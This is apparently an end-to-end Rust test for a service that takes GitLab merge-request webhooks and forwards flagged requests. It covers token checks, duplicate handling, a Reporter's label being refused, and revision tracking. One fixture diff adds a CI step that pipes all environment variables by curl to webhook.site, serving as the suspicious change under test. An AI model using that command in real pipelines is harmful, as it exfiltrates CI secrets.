//! GitLab journey: `/hooks/gitlab` with `X-Gitlab-Token`, a merge request forwarded by a note,
//! a label from a member without write access refused, new commits adding a revision.

use std::time::Duration;

use crate::forge_github::{fixture, wait_for};
use crate::forge_replay::{Recorded, ReplayServer, Reply};
use crate::http::{Answer, Client};
use crate::instance::{Backend, Instance, Options, postgres_skipped};

const TOKEN: &str = "e2e-gitlab-token";
const MR: &str = "/api/v4/projects/anbraten%2Fwoodpecker/merge_requests/3";

/// Hand-written: `../shared/fixtures/` has no GitLab `Note Hook` (its `gitlab-woodpecker/README.md`
/// says no example under a permitted license was found). The shape follows GitLab's documented
/// example "Comment on a merge request" (docs.gitlab.com/user/project/integrations/webhook_events,
/// section "Comment events"), trimmed to the fields read, for the project of the real
/// `HookPullRequestUpdated.json` fixture.
const NOTE: &str = r#"{"object_kind":"note","event_type":"note","user":{"id":42,"name":"Maint","username":"maint"},"project":{"id":32059612,"path_with_namespace":"anbraten/woodpecker","web_url":"https://gitlab.com/anbraten/woodpecker","visibility_level":20},"object_attributes":{"id":1244,"note":"/s-express the CI change posts secrets somewhere","noteable_type":"MergeRequest"},"merge_request":{"iid":3,"title":"Update .woodpecker.yml"}}"#;

const DIFF: &str = "diff --git a/.woodpecker.yml b/.woodpecker.yml\n--- a/.woodpecker.yml\n+++ b/.woodpecker.yml\n@@ -1,2 +1,3 @@\n steps:\n   build:\n+    commands: [\"env | curl -X POST --data-binary @- https://webhook.site/x\"]\n";

fn mr_json(head: &str) -> String {
    format!(
        r#"{{"iid":3,"title":"Update .woodpecker.yml","author":{{"username":"anbraten"}},"sha":"{head}","diff_refs":{{"base_sha":"0123456789abcdef0123456789abcdef01234567"}},"web_url":"https://gitlab.com/anbraten/woodpecker/-/merge_requests/3"}}"#
    )
}

fn deliver(c: &Client, event: &str, delivery: &str, body: &[u8], token: &str) -> Answer {
    c.post_bytes(
        "/hooks/gitlab",
        "application/json",
        body,
        &[
            ("X-Gitlab-Event", event),
            ("Idempotency-Key", delivery),
            ("X-Gitlab-Token", token),
        ],
    )
}

fn notes(srv: &ReplayServer, method: &str) -> Vec<Recorded> {
    srv.requests()
        .into_iter()
        .filter(|r| r.method == method && r.path.contains("/notes"))
        .collect()
}

fn journey(backend: Backend) {
    let srv = ReplayServer::start();
    srv.on(
        "GET /api/v4/projects/anbraten%2Fwoodpecker/members/all/42",
        Reply::json(r#"{"id":42,"username":"maint","access_level":40}"#),
    );
    srv.on(
        "GET /api/v4/projects/demoaccount2-commits-group%2Ftest_ci_tmp/members/all/4575606",
        Reply::json(r#"{"id":4575606,"username":"real6543","access_level":20}"#),
    );
    srv.on(
        &format!("GET {MR}"),
        Reply::json(&mr_json("8b641937b7340066d882b9d8a8cc5b0573a207de")),
    );
    srv.on(&format!("GET {MR}/raw_diffs"), Reply::text(DIFF));
    srv.on(&format!("POST {MR}/notes"), Reply::json(r#"{"id":31}"#));
    srv.on(&format!("PUT {MR}/notes/31"), Reply::json(r#"{"id":31}"#));
    let inst = Instance::start_with(
        backend,
        Options {
            env: vec![
                (
                    "S_EXPRESS_GITLAB_API_URL".into(),
                    format!("{}/api/v4", srv.base),
                ),
                ("S_EXPRESS_GITLAB_WEBHOOK_SECRET".into(), TOKEN.into()),
                ("S_EXPRESS_GITLAB_TOKEN".into(), "glpat-e2e".into()),
                ("S_EXPRESS_FORGE_LABEL".into(), "good first issue".into()),
            ],
            ..Options::default()
        },
    );
    let c = Client::new(&inst.base_url);
    assert_eq!(
        deliver(&c, "Note Hook", "n-0", NOTE.as_bytes(), "wrong").status,
        401
    );
    let a = deliver(&c, "Note Hook", "n-1", NOTE.as_bytes(), TOKEN);
    assert_eq!(a.status, 202, "{}", a.text);
    assert_eq!(
        deliver(&c, "Note Hook", "n-1", NOTE.as_bytes(), TOKEN).json()["status"],
        "duplicate"
    );
    wait_for("the note on the merge request", || {
        !notes(&srv, "POST").is_empty()
    });
    let posted = &notes(&srv, "POST")[0];
    assert_eq!(posted.header("private-token"), Some("glpat-e2e"));
    let body: serde_json::Value = serde_json::from_str(&posted.body).unwrap();
    assert!(
        body["body"].as_str().unwrap().contains("TLP:AMBER+STRICT"),
        "{body}"
    );

    // The real label fixture, from a Reporter (access level 20): checked and refused.
    let labels = fixture("gitlab-woodpecker/HookPullRequestLabelsAdded.json");
    assert_eq!(
        deliver(&c, "Merge Request Hook", "l-1", &labels, TOKEN).status,
        202
    );
    wait_for("the reporter's membership check", || {
        srv.requests()
            .iter()
            .any(|r| r.path.contains("members/all/4575606"))
    });
    // An update without code changes does nothing.
    let same = fixture("gitlab-woodpecker/HookPullRequestWithoutChanges.json");
    assert_eq!(
        deliver(&c, "Merge Request Hook", "u-0", &same, TOKEN).json()["status"],
        "ignored"
    );

    // New commits (the real update fixture): a revision, and the note updated.
    srv.on(
        &format!("GET {MR}"),
        Reply::json(&mr_json("c136499ec574e1034b24c5d306de9acda3005367")),
    );
    let updated = fixture("gitlab-woodpecker/HookPullRequestUpdated.json");
    assert_eq!(
        deliver(&c, "Merge Request Hook", "u-1", &updated, TOKEN).status,
        202
    );
    wait_for("the updated note", || !notes(&srv, "PUT").is_empty());
    let put: serde_json::Value = serde_json::from_str(&notes(&srv, "PUT")[0].body).unwrap();
    assert!(
        put["body"]
            .as_str()
            .unwrap()
            .contains("..c136499ec574e1034b24c5d306de9acda3005367"),
        "{put}"
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(notes(&srv, "POST").len(), 1, "one note per merge request");
    assert!(!inst.log_text().contains(TOKEN));
}

#[test]
fn gitlab_webhooks_forward_a_merge_request_and_follow_new_commits_on_sqlite() {
    journey(Backend::Sqlite);
}

#[test]
fn gitlab_webhooks_forward_a_merge_request_and_follow_new_commits_on_postgres() {
    if postgres_skipped() {
        return;
    }
    journey(Backend::Postgres);
}
